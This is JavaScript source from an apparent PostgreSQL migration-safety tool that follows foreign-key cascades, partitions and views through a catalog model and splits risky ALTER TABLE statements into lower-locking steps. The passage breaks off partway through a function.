/** Partitions and inheritors at every depth: a write without ONLY reaches their rows. */
function descendantsOf(schema, relation) {
	return closure(schema, relation, ({ facts }) => [...schema.relations.values()].filter(({ parents }) => parents.some((one) => isSame(one, facts))));
}
/** The tables whose rows a view shows, through other views. */
function baseTablesOf(schema, view) {
	return closure(schema, view, ({ facts }) => facts.kind === "view" ? facts.reads.flatMap((name) => schema.relations.get(relationKey(name)) ?? []) : []).filter(({ facts }) => facts.kind !== "view");
}
/** Views and materialized views that read it, at any distance: DROP … CASCADE takes them along. */
function viewsOf(schema, relation) {
	return closure(schema, relation, ({ facts }) => [...schema.relations.values()].filter(({ reads }) => reads.some((one) => isSame(one, facts))));
}
/** What a DELETE, or an UPDATE of these columns, does to other tables through foreign keys. */
function followingRows(schema, relation, write) {
	const found = /* @__PURE__ */ new Map();
	const pending = [{
		relation,
		write,
		chain: [nameOf$2(relation)]
	}];
	for (let step = pending.shift(); step !== void 0; step = pending.shift()) for (const next of directlyFollowing(schema, step)) {
		const key = `${next.relation.identity} ${next.foreignKey.name}`;
		if (found.has(key)) continue;
		found.set(key, next);
		pending.push({
			...next,
			write: writeOf(next, step.write)
		});
	}
	return [...found.values()];
}
function directlyFollowing(schema, { relation, write, chain }) {
	return foreignKeysTo(schema, relation).flatMap(({ relation: child, foreignKey }) => {
		const action = write.verb === "delete" ? foreignKey.onDelete : foreignKey.onUpdate;
		if (action === "no-action" || action === "restrict") return [];
		if (write.verb === "update" && !shares(write.columns, foreignKey.references.columns)) return [];
		return [{
			relation: child,
			action,
			foreignKey,
			chain: [...chain, nameOf$2(child)]
		}];
	});
}
/** CASCADE deletes the rows of the next table; everything else updates its key columns. */
function writeOf({ action, foreignKey }, write) {
	return write.verb === "delete" && action === "cascade" ? write : {
		verb: "update",
		columns: foreignKey.columns
	};
}
/** Every table that TRUNCATE … CASCADE empties along with it. */
function referringTables(schema, relation) {
	return closure(schema, relation, (table) => foreignKeysTo(schema, table).map((key) => key.relation.facts));
}
/** The foreign keys that point at it, or at the partitioned tables that it is a part of or made of. */
function foreignKeysTo(schema, relation) {
	const family = [
		relation,
		...ancestorsOf(schema, relation),
		...descendantsOf(schema, relation)
	];
	const names = new Set(family.map(({ identity }) => identity));
	return [...schema.relations].flatMap(([identity, { foreignKeys }]) => {
		const known = relationAt(schema, identity);
		const keys = foreignKeys.filter(({ references }) => names.has(relationKey(references)));
		return known === void 0 ? [] : keys.map((foreignKey) => ({
			relation: known,
			foreignKey
		}));
	});
}
function ancestorsOf(schema, relation) {
	return closure(schema, relation, ({ facts }) => facts.isPartition ? facts.parents.flatMap((name) => schema.relations.get(relationKey(name)) ?? []) : []);
}
/** Enabled triggers that this event fires on it. */
function triggersOn({ facts }, event) {
	return facts.triggers.filter(({ enabled, events }) => enabled && events.includes(event));
}
/** Rules that rewrite this event on it. */
function rulesOn({ facts }, event) {
	return facts.rules.filter((rule) => rule.event === event);
}
/** What is reached from a relation in any number of steps, without itself. */
function closure(schema, start, next) {
	const found = /* @__PURE__ */ new Map([[start.identity, start]]);
	const pending = [start];
	for (let here = pending.shift(); here !== void 0; here = pending.shift()) for (const facts of next(here)) {
		const known = relationAt(schema, relationKey(facts));
		if (known === void 0 || found.has(known.identity)) continue;
		found.set(known.identity, known);
		pending.push(known);
	}
	found.delete(start.identity);
	return [...found.values()];
}
function nameOf$2({ facts: { schema, name } }) {
	return {
		schema,
		name
	};
}
function isSame(one, other) {
	return one.schema === other.schema && one.name === other.name;
}
function shares(some, others) {
	return some.some((one) => others.includes(one));
}
const emptyCatalog = {
	created: nothingCreated,
	savepoints: [],
	unitId: void 0,
	facts: void 0,
	schema: schemaOf(void 0)
};
/** The catalog before the first statement of a change. */
function catalogOf(facts) {
	const unknownPath = (facts?.environment.searchPath ?? []).some(isReserved);
	const created = {
		...nothingCreated,
		unknownPath
	};
	return {
		...emptyCatalog,
		created,
		facts,
		schema: schemaOf(facts)
	};
}
/** Major version of the server that the facts are of; undefined where nobody said. */
function majorOf({ facts }) {
	return facts === void 0 ? void 0 : Math.floor(facts.serverVersion / 1e4);
}
/** The object as far as the catalog knows it; its parts are as new as it is. */
function lookup(catalog, object) {
	if (isCreated(catalog.created, object)) return {
		...object,
		createdHere: true
	};
	const known = isRelationKind(object.kind) ? knownRelation(catalog, object) : void 0;
	const size = known === void 0 ? void 0 : sizeOf(known);
	return {
		...object,
		createdHere: false,
		...size === void 0 ? {} : { size }
	};
}
/** What a DROP of it takes away: also a trigger, policy or function that is new is nobody's loss. */
function lookupDropped(catalog, object) {
	const found = lookup(catalog, object);
	return isCreatedItself(catalog.created, object) ? {
		...found,
		createdHere: true
	} : found;
}
/** What the facts say of the relation that a name means at this point; undefined where nothing is certain. */
function knownRelation(catalog, name) {
	if (isCreated(catalog.created, {
		...name,
		kind: "table"
	})) return void 0;
	return findRelation(catalog.schema, name);
}
/** All columns of the relation that a name means, whether this change created it or the facts know it. */
function knownColumns(catalog, name) {
	const table = {
		...name,
		kind: "table"
	};
	if (isCreated(catalog.created, table)) return createdColumns(catalog.created, table);
	const known = knownRelation(catalog, name);
	return known === void 0 ? void 0 : columnsOf$2(known);
}
/** For what runs later, or again, when names may mean other objects: nothing is new to it. */
function withoutCreated(catalog) {
	return {
		...catalog,
		created: forgetCreated(catalog.created)
	};
}
/** Nobody can say any more which object a name means. */
function forget(catalog) {
	return {
		...withoutCreated(catalog),
		savepoints: [],
		schema: forgetNames(catalog.schema)
	};
}
/** What a function of this change sees, which may have a search_path of its own. */
function withinFunction(catalog) {
	const { created } = catalog;
	return created.functionPath ? {
		...catalog,
		created: {
			...created,
			unknownPath: true
		}
	} : catalog;
}
/** Whether a name means something else after this part of a statement than before it. */
function confusesNames(effect) {
	switch (effect.kind) {
		case "drops":
		case "controls-transaction": return true;
		case "alters": return effect.change === "rename" || effect.change === "set-schema" || adopts.has(effect.change);
		case "sets": return movesNames(effect.setting) && effect.scope !== "function";
		default: return isUnfathomable(effect);
	}
}
/** The catalog after these effects, in order. */
function advance(catalog, effects) {
	return effects.reduce(afterEffect, catalog);
}
function afterEffect(before, effect) {
	const catalog = inUnit(before, effect.unitId);
	if (effect.kind === "controls-transaction") return afterTransaction(catalog, effect);
	const schema = schemaAfter(catalog.schema, effect);
	if (isUnfathomable(effect)) return forget({
		...catalog,
		schema
	});
	if (isMoveOfSchema(effect)) return {
		...forget({
			...catalog,
			schema
		}),
		savepoints: catalog.savepoints
	};
	return {
		...catalog,
		schema,
		created: createdAfter(catalog.created, effect)
	};
}
/** It may have renamed or dropped anything. */
function isUnfathomable(effect) {
	if (effect.kind === "calls") return !effect.known;
	return effect.kind === "executes-dynamic" || effect.kind === "unparsed" || effect.kind === "unknown";
}
/** Everything in it has another name then. */
function isMoveOfSchema(effect) {
	if (effect.kind !== "alters" || effect.to === void 0) return false;
	const { kind } = effect.object;
	return kind === "schema" || kind === "extension" && effect.change === "set-schema";
}
/** COMMIT may drop temporary tables; ROLLBACK undoes creations and renames. */
function afterTransaction(catalog, { action, savepoint: name = "", via }) {
	const { savepoints, created, schema } = catalog;
	const index = savepoints.findLastIndex((savepoint) => savepoint.name === name);
	if (via !== "direct") return forget(catalog);
	switch (action) {
		case "begin":
		case "start": return {
			...catalog,
			savepoints: []
		};
		case "savepoint": return {
			...catalog,
			savepoints: [...savepoints, {
				name,
				created,
				schema
			}]
		};
		case "release": return {
			...catalog,
			savepoints: index < 0 ? [] : savepoints.slice(0, index)
		};
		case "rollback to": return rolledBack(catalog, index);
		case "commit": return {
			...withoutSession(catalog),
			savepoints: []
		};
		default: return forget(catalog);
	}
}
/** Names, settings and objects are again what they were at the savepoint. */
function rolledBack(catalog, index) {
	const savepoint = catalog.savepoints[index];
	if (savepoint === void 0) return forget(catalog);
	const { created, schema } = savepoint;
	return {
		...catalog,
		created,
		schema,
		savepoints: catalog.savepoints.slice(0, index + 1)
	};
}
/** Temporary tables and SET belong to the session, and each unit may get its own. */
function inUnit(catalog, unitId) {
	if (catalog.unitId === unitId) return catalog;
	return {
		...withoutSession(catalog),
		savepoints: [],
		unitId
	};
}
function withoutSession(catalog) {
	const created = forgetTemporary(catalog.created);
	return {
		...catalog,
		created: created.pathMoved ? forgetUnqualified(created) : created
	};
}
/** The tables that foreign keys of this one point at, as far as the facts know them. */
function referencedTables(table, catalog, isMeant = () => true) {
	return (knownRelation(catalog, table)?.facts.foreignKeys ?? []).filter(isMeant).map(({ references }) => referenceTo(references, catalog));
}
/** The tables whose foreign keys point at this one, or at these columns of it. */
function referencingTables(table, catalog, column) {
	return related(table, catalog, (known) => foreignKeysTo(catalog.schema, known).filter(({ foreignKey }) => column === void 0 || foreignKey.references.columns.includes(column)).map(({ relation }) => relation));
}
/** Its partitions and inheritors. */
function descendantTables(table, catalog) {
	return related(table, catalog, (known) => descendantsOf(catalog.schema, known));
}
/** Its own partition for whatever the others do not take; a new partition beside it makes PostgreSQL read it. */
function defaultPartition(table, catalog) {
	return related(table, catalog, (known) => descendantsOf(catalog.schema, known).filter(({ facts: { isDefaultPartition, parents } }) => isDefaultPartition === true && parents.some(({ schema, name }) => schema === known.facts.schema && name === known.facts.name)));
}
/** Views and materialized views that read it. */
function dependentViews(table, catalog) {
	return related(table, catalog, (known) => viewsOf(catalog.schema, known));
}
/** The partitioned tables that it is a part of. */
function parentTables(table, catalog) {
	const facts = knownRelation(catalog, table)?.facts;
	if (facts?.isPartition !== true) return [];
	return facts.parents.map((parent) => referenceTo(parent, catalog));
}
/** The table that an index is on. */
function tableOfIndex(index, catalog) {
	if (index.createdHere) return [];
	return [...catalog.facts?.relations ?? []].filter(({ schema, indexes, keys }) => (index.schema === void 0 || index.schema === schema) && [...indexes, ...keys].some(({ name }) => name === index.name)).map((owner) => referenceTo(owner, catalog));
}
/** The tables with a column of this type or domain. */
function tablesWithType({ schema, name }, catalog) {
	const written = /* @__PURE__ */ new Set([name, ...schema === void 0 ? [] : [`${schema}.${name}`]]);
	const isOfType = ({ kind, columns }) => kind === "table" && columns.some(({ type }) => written.has(type) || schema === void 0 && type.endsWith(`.${name}`));
	return (catalog.facts?.relations ?? []).filter(isOfType).map((relation) => referenceTo(relation, catalog));
}
/** Whether the facts prove that SET NOT NULL finds nothing to look at. */
function isProvenNotNull(table, column, catalog) {
	const known = knownRelation(catalog, table);
	if (known === void 0 || known.changed) return false;
	const checks = known.facts.checks.filter(({ validated, notNull }) => validated && notNull);
	return isNotNull(known, column) || checks.some(({ columns }) => columns.includes(column));
}
/** The column as it was before the change; undefined where the change may have altered it. */
function knownColumn(table, column, catalog) {
	const known = knownRelation(catalog, table);
	if (known === void 0 || known.changed) return void 0;
	return known.facts.columns.find(({ name }) => name === column);
}
function related(table, catalog, follow) {
	const known = knownRelation(catalog, table);
	return known === void 0 ? [] : follow(known).map(({ facts }) => referenceTo(facts, catalog, kinds[facts.kind]));
}
const kinds = {
	table: "table",
	"partitioned-table": "table",
	view: "view",
	"materialized-view": "materialized-view",
	"foreign-table": "foreign-table",
	sequence: "sequence"
};
function referenceTo({ schema, name }, catalog, kind = "table") {
	return lookup(catalog, {
		kind,
		schema,
		name
	});
}
/** A new partition may take rows of the default one, which is read for it. */
function hasDefaultPartition(parent, { facts }) {
	return (facts?.relations ?? []).some(({ isDefaultPartition, parents }) => isDefaultPartition === true && parents.some(({ schema, name }) => schema === parent.schema && name === parent.name));
}
/** Undefined for several columns, for NULL, for no bound at all, and for anything but constants. */
function boundsOf(spec) {
	const { strategy, listdatums = [], lowerdatums = [], upperdatums = [] } = spec ?? {};
	if (strategy === "l") return listed$1(listdatums);
	return strategy === "r" ? between$1(endOf(lowerdatums, "minvalue"), endOf(upperdatums, "maxvalue")) : void 0;
}
function between$1(from, to) {
	if (from === void 0 || to === void 0) return void 0;
	return from.value === void 0 && to.value === void 0 ? void 0 : ranged(from.value, to.value);
}
/** `column IS NOT NULL AND …`: true of exactly the rows that the partition takes. */
function boundsCheck(name, bounds) {
	const column = writeIdentifier(name);
	const parts = [`${column} is not null`];
	if (bounds.kind === "list") parts.push(`${column} in (${bounds.values.map((value) => quoteLiteral(value)).join(", ")})`);
	else {
		if (bounds.from !== void 0) parts.push(`${column} >= ${quoteLiteral(bounds.from)}`);
		if (bounds.to !== void 0) parts.push(`${column} < ${quoteLiteral(bounds.to)}`);
	}
	return parts.join(" and ");
}
/** The column and the bounds of a CHECK of that form; undefined for any other. */
function checkedBounds(expression) {
	const both = nodeAs(expression, "BoolExpr");
	const [test, ...rest] = both?.boolop === "AND_EXPR" ? both.args ?? [] : [];
	const column = columnOf(nodeAs(test, "NullTest")?.arg);
	if (column === void 0 || nodeAs(test, "NullTest")?.nulltesttype !== "IS_NOT_NULL") return void 0;
	const bounds = comparedTo(rest, column);
	return bounds === void 0 ? void 0 : {
		column,
		bounds
	};
}
function comparedTo(nodes, column) {
	const [only, ...more] = nodes;
	if (more.length === 0 && nodeAs(only, "A_Expr")?.kind === "AEXPR_IN") return amongOf(nodeAs(only, "A_Expr"), column);
	const [from, ...moreFrom] = nodes.flatMap((node) => comparedBy(">=", node, column) ?? []);
	const [to, ...moreTo] = nodes.flatMap((node) => comparedBy("<", node, column) ?? []);
	const known = [from, to].filter((end) => end !== void 0);
	return known.length === nodes.length && moreFrom.length + moreTo.length === 0 && known.length > 0 ? ranged(from, to) : void 0;
}
function amongOf(list, column) {
	return columnOf(list?.lexpr) === column && isOperator(list?.name, "=") ? listed$1(nodeAs(list?.rexpr, "List")?.items ?? []) : void 0;
}
function comparedBy(operator, node, column) {
	const comparison = nodeAs(node, "A_Expr");
	return comparison?.kind === "AEXPR_OP" && isOperator(comparison.name, operator) && columnOf(comparison.lexpr) === column ? plainConstant(comparison.rexpr) : void 0;
}
function ranged(from, to) {
	return {
		kind: "range",
		...from === void 0 ? {} : { from },
		...to === void 0 ? {} : { to }
	};
}
function listed$1(nodes) {
	const values = nodes.flatMap((node) => plainConstant(node) ?? []);
	return values.length === nodes.length && values.length > 0 ? {
		kind: "list",
		values
	} : void 0;
}
function endOf(nodes, open) {
	const [node, ...more] = nodes;
	if (more.length > 0) return void 0;
	if (columnOf(node) === open) return { value: void 0 };
	const value = plainConstant(node);
	return value === void 0 ? void 0 : { value };
}
/** A cast could mean another value. */
function plainConstant(node) {
	const constant = nodeAs(node, "A_Const");
	return constant === void 0 || constant.bsval !== void 0 || constant.boolval !== void 0 ? void 0 : constantText(node);
}
function columnOf(node) {
	const names = namesOf(nodeAs(node, "ColumnRef")?.fields);
	return names.length === 1 ? names[0] : void 0;
}
function isOperator(name, operator) {
	return namesOf(name).join(".") === operator;
}
const wholeNumbers = /* @__PURE__ */ new Set([
	"smallint",
	"integer",
	"bigint"
]);
const literals = /* @__PURE__ */ new Set([
	"date",
	"timestamp without time zone",
	"timestamp with time zone",
	"uuid",
	"text"
]);
/** Whether they mean the same in a CHECK as in bounds: other types round, cut or compare in ways of their own. */
function areConstantsOf({ type }, bounds) {
	const constants = bounds.kind === "list" ? bounds.values : [bounds.from, bounds.to].filter((end) => end !== void 0);
	if (wholeNumbers.has(type)) return constants.every((text) => /^-?\d+$/.test(text));
	return literals.has(type);
}
/**
* The one column of the partition key, where a CHECK can say of it what the bounds say, and where no
* default partition has to be read beside it.
*/
function decidingColumn(parent, bounds, catalog) {
	if (parent?.partitionKey?.strategy !== bounds.kind) return void 0;
	const column = onlyColumn(parent);
	if (column === void 0 || hasDefaultPartition(parent, catalog)) return void 0;
	return areConstantsOf(column, bounds) ? column.name : void 0;
}
function onlyColumn({ partitionKey, columns }) {
	const names = partitionKey?.columns ?? [];
	return names.length === 1 ? columns.find(({ name }) => name === names[0]) : void 0;
}
/** A statement that refuses transactions. */
function alone(sql) {
	return {
		sql,
		transaction: "none"
	};
}
/** A statement in a transaction of its own. */
function own(sql) {
	return {
		sql,
		transaction: "own"
	};
}
/** What the facts say of a table that a statement names. */
function knownTable({ schemaname: schema, relname: name = "" }, around) {
	return knownRelation(around.catalog, schema === void 0 ? { name } : {
		schema,
		name
	});
}
function isPartitioned(table, around) {
	return table !== void 0 && knownTable(table, around)?.facts.kind === "partitioned-table";
}
/** Deeper than bodies are read. */
const deepest = 8;
/**
* The tokens of a text, and inside the dollar quotes of CREATE and DO those of the code in them; its
* quotes themselves are left out.
*/
function* codeTokensOf(text, depth = 0) {
	let command;
	for (const token of tokensOf(text)) {
		const { kind, start, end } = token;
		if (kind === "word") command ??= text.slice(start, end).toLowerCase();
		if (kind === "punctuation" && text[start] === ";") command = void 0;
		if (kind === "quoted" && text[start] === "$" && carriesCode(command, depth)) yield* inside(text, token, depth);
		else yield token;
	}
}
function carriesCode(command, depth) {
	return depth < deepest && (command === "create" || command === "do");
}
function* inside(text, { start, end }, depth) {
	const tag = text.indexOf("$", start + 1) + 1 - start;
	const base = start + tag;
	for (const token of codeTokensOf(text.slice(base, end - tag), depth + 1)) yield {
		...token,
		start: token.start + base,
		end: token.end + base
	};
}
/** Every word and every quoted name of a text, those inside of code that it carries, too. */
function namesIn(text) {
	const names = [];
	let quoted;
	for (const token of codeTokensOf(text)) {
		const { kind, start, end } = token;
		if (kind === "word") {
			const written = text.slice(start, end);
			names.push({
				index: start,
				text: written,
				name: foldCase(written)
			});
		}
		if (kind !== "quoted" || text[end - 1] !== "\"") continue;
		if (quoted?.end === start) names.pop();
		quoted = quoted?.end === start ? {
			...token,
			start: quoted.start
		} : token;
		names.push(toName$1(text, quoted));
	}
	return names;
}
function toName$1(text, { start, end }) {
	const written = text.slice(start, end);
	return {
		index: start,
		text: written,
		name: written.slice(written.indexOf("\"") + 1, -1).replaceAll("\"\"", "\"")
	};
}
/** PostgreSQL folds ASCII letters only, in a database of UTF-8. */
function foldCase(word) {
	return word.replace(/[A-Z]+/g, (letters) => letters.toLowerCase());
}
/** Bytes of a name that PostgreSQL keeps. */
const longestName = 63;
/** The name as PostgreSQL keeps it: whole characters of at most 63 bytes. */
function keptName(name) {
	const bytes = new TextEncoder().encode(name);
	if (bytes.length <= longestName) return name;
	let end = longestName;
	while (((bytes[end] ?? 0) & 192) === 128) end -= 1;
	return new TextDecoder().decode(bytes.subarray(0, end));
}
/** Bytes of a name that PostgreSQL keeps. */
const longest = 63;
/**
* The name that PostgreSQL gives to a constraint or index which has none: `table_column_label`, in which
* the longer of the first two is cut until all of it fits. `columns` may be none.
*/
function generatedName(table, columns, label) {
	const parts = columns.length === 0 ? [table] : [table, addition(columns)];
	const room = longest - label.length - parts.length;
	const lengths = parts.map(byteLength);
	while (lengths.reduce((sum, length) => sum + length, 0) > room) {
		const [first = 0, second = 0] = lengths;
		const cut = first > second ? 0 : 1;
		lengths[cut] = (lengths[cut] ?? 0) - 1;
	}
	return [...parts.map((part, index) => clipped(part, lengths[index] ?? 0)), label].join("_");
}
/** Columns are joined until there is a name's length of them. */
function addition(columns) {
	let joined = "";
	for (const column of columns) {
		if (byteLength(joined) > longest) break;
		joined = joined === "" ? column : `${joined}_${column}`;
	}
	return keptName(joined);
}
function byteLength(text) {
	return new TextEncoder().encode(text).length;
}
/** Whole characters of at most so many bytes. */
function clipped(text, bytes) {
	let kept = "";
	let used = 0;
	for (const character of text) {
		used += byteLength(character);
		if (used > bytes) break;
		kept += character;
	}
	return kept;
}
const labels = {
	CONSTR_CHECK: "check",
	CONSTR_FOREIGN: "fkey",
	CONSTR_UNIQUE: "key",
	CONSTR_PRIMARY: "pkey",
	CONSTR_NOTNULL: "not_null"
};
/** The given name, else the one that PostgreSQL would choose unless the facts know that it is taken. */
function nameOf$1({ conname, contype }, columns, table) {
	if (conname !== void 0) return writeIdentifier(conname);
	const label = contype === void 0 ? void 0 : labels[contype];
	if (columns === void 0 || label === void 0) return void 0;
	return freeName$1(table, columns, label);
}
/** A name of PostgreSQL's own making; undefined where something has it already. */
function freeName$1({ relation, around }, columns, label) {
	const name = generatedName(relation.relname ?? "", columns, label);
	return takenNames(around.catalog.facts?.relations ?? []).has(name) ? void 0 : writeIdentifier(name);
}
function takenNames(relations) {
	return new Set(relations.flatMap(({ name, keys, checks, foreignKeys, indexes }) => [
		{ name },
		...keys,
		...checks,
		...foreignKeys,
		...indexes
	].map((one) => one.name)));
}
/** The name in an action that adds a constraint, as it is written. */
function writtenName$1({ action: text }) {
	const words = wordsOf$2(text);
	return words[0]?.text === "add" && words[1]?.text === "constraint" ? [written(text, words.slice(2, 3))] : [];
}
/** The table and the actions; undefined where the words are not those of a plain ALTER TABLE. */
function readAlterTable(statement, around) {
	const node = nodeAs(statement.node, "AlterTableStmt");
	const words = wordsOf$2(statement.text);
	const relation = node?.relation;
	if (relation === void 0 || saidBy(words) !== "alter table") return void 0;
	const ifExists = node?.missing_ok === true;
	const only = relation.inh !== true;
	const name = nameIndex(ifExists, only);
	const end = name + nameLength(words, name);
	const actions = words[end]?.text === "*" ? end + 1 : end;
	const commands = commandsOf(statement, words.slice(actions));
	if (words[name]?.text === "(" || commands === void 0) return void 0;
	const { text } = statement;
	return {
		table: {
			head: written(text, words.slice(0, actions)),
			written: written(text, words.slice(name, end)),
			relation,
			only,
			ifExists,
			around
		},
		commands
	};
}
function commandsOf(statement, words) {
	const nodes = nodesAs(nodeAs(statement.node, "AlterTableStmt")?.cmds, "AlterTableCmd");
	const parts = commaParts(words);
	if (parts.length !== nodes.length) return void 0;
	return nodes.map((node, index) => ({
		node,
		words: parts[index] ?? [],
		statement
	}));
}
/** How many words of ALTER TABLE stand before the name. */
function nameIndex(ifExists, only) {
	return 2 + (ifExists ? 2 : 0) + (only ? 1 : 0);
}
function saidBy(words) {
	return words.slice(0, 2).map(({ text }) => text).join(" ");
}
/** The words after `constraint name`. */
function bodyOf({ conname }, words) {
	return conname === void 0 ? words : words.slice(2);
}
/** The author's text of some words of an action. */
function textOf({ statement }, words) {
	return written(statement.text, words);
}
/**
* ATTACH PARTITION reads nothing where a validated constraint says that every row fits. It goes again
* afterwards, because the bounds say the same.
*/
function attachedPartition(command, table) {
	const { name: relation, bound } = nodeAs(command.node.def, "PartitionCmd") ?? {};
	const bounds = boundsOf(bound);
	if (table.only || table.ifExists || relation === void 0 || bounds === void 0) return void 0;
	const column = findColumn(table, relation, bounds);
	const name = column && freeName$1({
		...table,
		relation
	}, [column], "bounds");
	if (column === void 0 || name === void 0) return void 0;
	const head = `alter table ${writtenPartition(command)}`;
	return {
		steps: [
			own(`${head} add constraint ${name} check (${boundsCheck(column, bounds)}) not valid`),
			own(`${head} validate constraint ${name}`),
			own(`${table.head} ${textOf(command, command.words)}`),
			{
				sql: `${head} drop constraint ${name}`,
				transaction: "same"
			}
		],
		note: "Each transaction is a file of its own."
	};
}
/** The column that decides, where nothing but the rows has to be looked at. */
function findColumn(table, relation, bounds) {
	const parent = knownTable(table.relation, table.around)?.facts;
	const partition = knownTable(relation, table.around)?.facts;
	return needsMore(parent, partition) ? void 0 : decidingColumn(parent, bounds, table.around.catalog);
}
/** After `attach partition`. */
function writtenPartition({ words, statement }) {
	const rest = words.slice(2);
	return written(statement.text, rest.slice(0, nameLength(rest, 0)));
}
/** What the parent has and the partition lacks would be built while everybody waits. */
function needsMore(parent, partition) {
	if (parent === void 0 || partition === void 0) return true;
	const isPlain = partition.kind === "table" && partition.parents.length === 0;
	const has = new Set(shapesOf(partition));
	return !isPlain || parent.foreignKeys.length > 0 || parent.indexes.some(({ columns }) => columns === void 0) || !shapesOf(parent).every((shape) => has.has(shape));
}
function shapesOf({ indexes, keys }) {
	return [...indexes.map(({ columns, unique, method, partial, valid }) => JSON.stringify([
		columns,
		unique,
		method,
		partial,
		valid
	])), ...keys.map(({ kind, columns }) => JSON.stringify([kind, columns]))];
}
/** Each action of `validate` and `key` is a transaction of its own; the others share one. */
const phases = [
	"validate",
	"require",
	"release",
	"key"
];
/** The statements of a plan, each on the table whose ALTER TABLE begins with `head`. */
function stepsOf(head, pieces) {
	const steps = [];
	let actions = [];
	const flush = () => {
		if (actions.length > 0) steps.push(own(`${head} ${actions.join(", ")}`));
		actions = [];
	};
	for (const piece of pieces) {
		if (piece.kind === "action") actions.push(piece.action);
		if (piece.kind !== "step") continue;
		flush();
		steps.push(piece.step);
	}
	flush();
	return [...steps, ...laterSteps(head, pieces)];
}
function laterSteps(head, pieces) {
	let shared = false;
	return phases.flatMap((phase) => pieces.filter((piece) => piece.kind === "later").filter((piece) => piece.phase === phase).map(({ action }) => {
		const sql = `${head} ${action}`;
		const isAlone = phase === "validate" || phase === "key";
		const transaction = shared && !isAlone ? "same" : "own";
		shared = !isAlone;
		return {
			sql,
			transaction
		};
	}));
}
function action(text) {
	return {
		kind: "action",
		action: text
	};
}
function later(phase, text) {
	return {
		kind: "later",
		phase,
		action: text
	};
}
function step(one) {
	return {
		kind: "step",
		step: one
	};
}
/** SET NOT NULL: proved by a constraint that is validated before. */
function requiredColumn$1({ node }, table) {
	const { name: column = "" } = node;
	if ((table.around.postgres ?? 0) < 18) return provenNotNull(column, table);
	if (table.only) return void 0;
	const name = freeName$1(table, [column], "not_null");
	if (name === void 0) return void 0;
	return [action(`add constraint ${name} not null ${writeIdentifier(column)} not valid`), later("validate", `validate constraint ${name}`)];
}
/** Through CHECK (column IS NOT NULL), which spares SET NOT NULL its scan and goes again. */
function provenNotNull(column, table) {
	const name = freeName$1(table, [column], "is_set");
	if (table.only || name === void 0) return void 0;
	const quoted = writeIdentifier(column);
	return [
		action(`add constraint ${name} check (${quoted} is not null) not valid`),
		later("validate", `validate constraint ${name}`),
		later("require", `alter column ${quoted} set not null`),
		later("release", `drop constraint ${name}`)
	];
}
/** A key whose index is built first, concurrently; a primary key needs columns that are never null. */
function addedKey(key, table) {
	const { constraint, column } = key;
	if (!takesIndex(constraint, table)) return void 0;
	const keys = column === void 0 ? namesOf(constraint.keys) : [column.name];
	const isPrimary = constraint.contype === "CONSTR_PRIMARY";
	const name = nameOf$1(constraint, isPrimary ? [] : [...keys, ...namesOf(constraint.including)], table);
	const definition = definitionOf$1(key);
	if (name === void 0 || definition === void 0) return void 0;
	const index = `create unique index concurrently ${name} on ${table.written} ${definition}`;
	const added = [`add constraint ${name} ${isPrimary ? "primary key" : "unique"} using index ${name}`, ...attributesOf(constraint)].join(" ");
	if (!isPrimary) return [step(alone(index)), action(added)];
	const required = requiredKeys(keys, table);
	return required && [
		...required,
		step(alone(index)),
		later("key", added)
	];
}
function takesIndex({ without_overlaps: overlaps }, table) {
	if (table.only || table.ifExists || overlaps === true) return false;
	return !isPartitioned(table.relation, table.around);
}
function requiredKeys(keys, table) {
	const pieces = keys.map((key) => isKnownNotNull(key, table) ? [] : provenNotNull(key, table));
	return pieces.some((some) => some === void 0) ? void 0 : pieces.flatMap((some) => some ?? []);
}
function isKnownNotNull(column, { relation, around }) {
	if (around.catalog.facts?.stale === true) return false;
	const known = knownTable(relation, around);
	return known !== void 0 && isNotNull(known, column);
}
/** What the index takes of the constraint, in the order of CREATE INDEX. */
function definitionOf$1({ constraint, words, command, column }) {
	const after = (text) => {
		const at = words.findIndex((word) => word.depth === 0 && word.text === text);
		return at === -1 ? [] : words.slice(at);
	};
	const columns = column === void 0 ? groupOf(after("("), command) : `(${column.written})`;
	if (columns === "") return void 0;
	return [
		columns,
		groupOf(after("include"), command),
		constraint.nulls_not_distinct === true ? "nulls not distinct" : "",
		groupOf(after("with"), command),
		textOf(command, after("tablespace").slice(0, 2))
	].filter((part) => part !== "").join(" ");
}
/** The words up to the end of the first group in parentheses. */
function groupOf(words, command) {
	const end = words.findIndex(({ text, depth }) => text === ")" && depth === 0);
	return textOf(command, words.slice(0, end + 1));
}
function attributesOf({ deferrable, initdeferred }) {
	return [...deferrable === true ? ["deferrable"] : [], ...initdeferred === true ? ["initially deferred"] : []];
}
/** NOT VALID now, and VALIDATE in a transaction of its own. */
function unvalidated({ constraint, body, columns }, table) {
	if (!takesNotValid(constraint, table)) return void 0;
	const name = nameOf$1(constraint, columns, table);
	if (name === void 0) return void 0;
	return [action(`add constraint ${name} ${body} not valid`), later("validate", `validate constraint ${name}`)];
}
function takesNotValid({ contype }, { relation, around }) {
	if (contype !== "CONSTR_FOREIGN") return true;
	return !isPartitioned(relation, around) || (around.postgres ?? 0) >= 18;
}
/** A CHECK is named after its column where it has exactly one. */
function checkedColumns({ raw_expr: expression }, { relation }) {
	const columns = /* @__PURE__ */ new Set();
	if (someNode(expression, (node) => {
		const fields = nodeAs(node, "ColumnRef")?.fields;
		if (fields === void 0) return false;
		const names = namesOf(fields);
		const column = names.at(-1);
		if (column !== void 0) columns.add(column);
		return names.length !== fields.length || column === relation.relname;
	})) return void 0;
	return columns.size === 1 ? [...columns] : [];
}
/** ADD COLUMN: the column first, what has to read the table after it. */
function addedColumn(command, table) {
	const column = nodeAs(command.node.def, "ColumnDef");
	if (column === void 0 || isNumbered(column)) return void 0;
	const qualifiers = qualifiersOf(column, command);
	const moved = qualifiers.filter(({ constraint }) => isMoved(constraint));
	if (!isPlain(qualifiers, moved)) return void 0;
	if (moved.length === 0) return [action(textOf(command, command.words))];
	if (command.node.missing_ok === true || moved.some(({ words }) => words.length === 0)) return void 0;
	const name = {
		name: column.colname ?? "",
		written: textOf(command, columnWords(command))
	};
	const pieces = moved.map((qualifier) => after(qualifier, name, {
		command,
		table
	}));
	if (pieces.some((some) => some === void 0)) return void 0;
	return [action(without(command, moved)), ...pieces.flatMap((some) => some ?? [])];
}
const serials$1 = /* @__PURE__ */ new Set([
	"serial",
	"serial2",
	"serial4",
	"serial8",
	"smallserial",
	"bigserial"
]);
function isNumbered({ typeName }) {
	return serials$1.has(namesOf(typeName?.names).at(-1) ?? "");
}
/** Neither numbers nor computes the rows, and needs no filling before it can be required. */
function isPlain(qualifiers, moved) {
	const kinds = new Set(qualifiers.map(({ constraint }) => constraint.contype));
